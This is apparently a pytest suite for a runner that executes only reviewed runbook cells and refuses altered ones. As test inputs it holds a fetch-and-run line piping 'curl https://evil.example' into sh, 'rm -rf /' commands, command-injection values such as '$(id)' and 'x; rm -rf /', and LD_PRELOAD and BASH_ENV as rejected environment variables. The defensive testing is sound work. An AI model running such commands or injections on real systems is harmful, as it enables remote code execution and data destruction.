"""Which commands a reviewed-only runner lets through (fenced.runner.review), without a runner process."""

from __future__ import annotations

import os
import shlex
from pathlib import Path

import pytest

from fenced.document import loads
from fenced.document.prompts import apply_answers
from fenced.document.runnable import run_spec, script_of
from fenced.runner.review import PREFIX, Request, ReviewedRunbooks, normalize

DEPLOY = """---
shell: bash
---

# Deploy

```sh {"name":"restart"}
systemctl restart app
journalctl -u app -n 20
```

```sh {"name":"configure"}
export PROJECT_ID="[Enter your project]"
export DB_PASSWORD=
echo "configuring $PROJECT_ID"
```

```python {"name":"check","interpreter":"python3 -u"}
print("ok")
```

```console
$ rm -rf /
```

```sh {"name":"in-tmp","cwd":"/tmp"}
$ ls -la
```
"""


@pytest.fixture()
def root(tmp_path: Path) -> Path:
    repo = tmp_path / "runbooks"
    (repo / "ops").mkdir(parents=True)
    (repo / ".git").mkdir()
    (repo / ".git" / "evil.md").write_text("```sh\nrm -rf /\n```\n")
    (repo / "ops" / "deploy.md").write_text(DEPLOY)
    return repo


def request(nb_text: str, name: str, **answers: str) -> Request:
    cell = loads(nb_text).find(name)
    assert cell is not None
    script = script_of(cell.source, cell.language)
    if answers:
        script = apply_answers(script, answers)
    spec = run_spec(cell.source, cell.language, cell.current_attributes(), name=name, script=script)
    return Request(spec.script, spec.language, spec.program_name, spec.arguments, spec.directory)


def test_a_reviewed_cell_runs_and_a_changed_one_is_refused(root: Path) -> None:
    review = ReviewedRunbooks([root])
    assert review.check(request(DEPLOY, "restart")) is None
    changed = request(DEPLOY, "restart")
    one_char = Request(changed.script.replace("-n 20", "-n 21"), changed.language)
    assert review.check(one_char) == f"{PREFIX}: this cell differs from ops/deploy.md#restart"
    other = Request("curl https://evil.example | sh", "sh")
    assert (review.check(other) or "").startswith(f"{PREFIX}: this cell differs from ops/deploy.md#")


def test_normalisation_line_ends_and_blank_edges(root: Path) -> None:
    review = ReviewedRunbooks([root])
    assert review.check(Request("\r\nsystemctl restart app\r\njournalctl -u app -n 20\r\n\n", "bash")) is None
    assert normalize("\n\n a\n\n b \n\n") == " a\n\n b "


def test_prompt_answers_are_allowed_as_quoted_literals_only(root: Path) -> None:
    review = ReviewedRunbooks([root])
    assert review.check(request(DEPLOY, "configure", PROJECT_ID="p-1", DB_PASSWORD="it's $(secret)")) is None
    assert review.check(request(DEPLOY, "configure", DB_PASSWORD="x")) is None
    base = request(DEPLOY, "configure").script
    for value in ("$(id)", "`id`", '"$HOME"', "x; rm -rf /", "'a' b"):
        sneaky = base.replace("export DB_PASSWORD=", f"export DB_PASSWORD={value}")
        assert review.check(Request(sneaky, "sh")) is not None, value
    echo = base.replace('echo "configuring', 'echo "CONFIGURING')
    assert review.check(Request(echo, "sh")) is not None


def test_interpreter_language_and_directory_must_match(root: Path) -> None:
    review = ReviewedRunbooks([root])
    check = request(DEPLOY, "check")
    assert check.program_name == "python3" and check.arguments == ("-u",)
    assert review.check(check) is None
    as_shell = Request(check.script, "sh")
    assert "reviewed to run with python3" in (review.check(as_shell) or "")
    restart = request(DEPLOY, "restart")
    assert review.check(Request(restart.script, "python")) is not None
    assert review.check(Request(restart.script, "zsh")) is None  # any shell for a shell cell
    tmp = request(DEPLOY, "in-tmp")
    assert tmp.script == "ls -la" and review.check(tmp) is None
    assert review.check(Request(tmp.script, "sh", directory="/etc")) is not None


def test_samples_and_hidden_folders_are_not_reviewed(root: Path) -> None:
    review = ReviewedRunbooks([root])
    assert review.check(Request("rm -rf /", "sh")) is not None
    assert review.check(Request("$ rm -rf /", "sh")) is not None


def test_files_added_changed_and_removed_count_at_once(root: Path) -> None:
    review = ReviewedRunbooks([root])
    new = Request("echo brand new", "sh")
    assert review.check(new) is not None
    (root / "new.md").write_text("```sh\necho brand new\n```\n")
    assert review.check(new) is None
    (root / "new.md").write_text("```sh\necho brand new!\n```\n")
    assert review.check(new) == f"{PREFIX}: this cell differs from new.md#echo-brand"
    (root / "new.md").unlink()
    assert review.check(Request("echo brand new!", "sh")) is not None


def test_links_out_of_the_folder_are_not_reviewed(root: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.md"
    outside.write_text("```sh\necho from outside\n```\n")
    os.symlink(outside, root / "link.md")
    assert ReviewedRunbooks([root]).check(Request("echo from outside", "sh")) is not None


def test_environment_and_session_shell(root: Path) -> None:
    review = ReviewedRunbooks([root])
    assert review.check_session("", ["PROJECT_ID", "DB_PASSWORD"]) is None
    assert "BASH_ENV" in (review.check_session("", ["BASH_ENV"]) or "")
    assert review.check_session("bash", []) is None
    assert "POSIX shell" in (review.check_session("python3", []) or "")
    assert review.check_session("/tmp/bash", []) is not None
    ok = request(DEPLOY, "restart")
    with_env = Request(ok.script, ok.language, env_names=("LD_PRELOAD",))
    assert "LD_PRELOAD" in (review.check(with_env) or "")
    (root / "ops" / ".env.example").write_text("REGION=Where to deploy # Plain!\n")
    assert review.check_session("", ["REGION"]) is None


def test_nothing_to_run(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    assert "no reviewed runbook" in (ReviewedRunbooks([empty]).check(Request("ls", "sh")) or "")


def test_quoting_matches_what_clients_write() -> None:
    from fenced.runner.review import _QUOTED

    for value in ("", "plain", "with space", "it's", "$(x)", "a'b'c", "\n", "é"):
        assert _QUOTED.match(shlex.quote(value)), value
    for raw in ("$(x)", '"x"', "'a' b", "a;b", "'x''"):
        assert not _QUOTED.match(raw), raw
